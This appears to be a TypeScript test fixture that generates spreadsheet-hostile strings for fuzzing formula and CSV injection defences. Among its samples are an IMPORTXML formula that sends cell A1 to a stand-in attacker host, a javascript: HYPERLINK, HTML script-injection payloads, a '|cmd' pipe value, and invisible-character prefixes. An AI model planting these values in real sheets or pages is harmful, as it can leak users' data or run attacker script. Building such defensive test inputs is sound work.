/** Texts that a spreadsheet would love to misread: collected ones, and generated ones built from the same pieces. */
import fc from 'fast-check';

/** What Sheets takes for something else when a person types it, and what attackers put into web pages. */
const COLLECTED = [
  '=IMPORTXML("https://evil.example?"&A1,"//a")',
  '=HYPERLINK("javascript:alert(1)","click")',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  '+41 44 668 18 00',
  '-2+3',
  '@SUM(A1)',
  "'",
  "''quoted''",
  '007',
  '0044',
  'TRUE',
  'falsch',
  ' false ',
  '2026-10-02',
  '1/2',
  '02.03.2026',
  'Jan 5',
  'Januar 2026',
  '10:30 pm',
  '5%',
  '$1,000',
  '€ 12',
  '1.234,56',
  '(5)',
  '1e5',
  '0x1F',
  'Infinity',
  '#N/A',
  '#REF!',
  '{{Country}}',
  '{=SUM(A1:A3)}',
  '|cmd',
  '%0A=1',
  '\t=1',
  '\n=1',
  '\r\n+1',
  ' =1',
  '\u00a0=1',
  '\ufeff=1',
  '\u200b=1',
  '\u202e=1+1',
  '\u2066abc\u2069',
  '\ud800',
  '\udc00 low',
  '\u0000',
  '<img src=x onerror=alert(1)>',
  '</script><script>alert(1)</script>',
  'https://example.com/?a=1&b=2',
  'mailto:a@example.com',
  '😀'.repeat(40),
  'e\u0301',
  '   ',
  '\\',
  '"',
];

const piece = fc.oneof(
  fc.constantFrom(...COLLECTED),
  fc.constantFrom(
    '=',
    '+',
    '-',
    '@',
    "'",
    '＝',
    '\t',
    '\r',
    '\n',
    ' ',
    '\u00a0',
    '\u200f',
    '$',
    '%',
    '"',
    '{',
  ),
  fc.integer({ min: -100_000, max: 100_000 }).map(String),
  fc.string({ unit: 'binary', maxLength: 12 }),
  fc
    .array(fc.integer({ min: 0, max: 0xffff }), { maxLength: 6 })
    .map((units) => String.fromCharCode(...units)),
);

/** A text of one to four pieces; never empty. */
const text = fc
  .array(piece, { minLength: 1, maxLength: 4 })
  .map((pieces) => pieces.join(''))
  .filter((joined) => joined !== '');

/** So many hostile texts, the same ones every time; the collected ones and one that is too long for a cell come first. */
export function hostileStrings(n: number, seed: number): string[] {
  const long = `=${'x'.repeat(50_000)}`;
  return [...COLLECTED, long, ...fc.sample(text, { numRuns: n, seed })].slice(0, n);
}
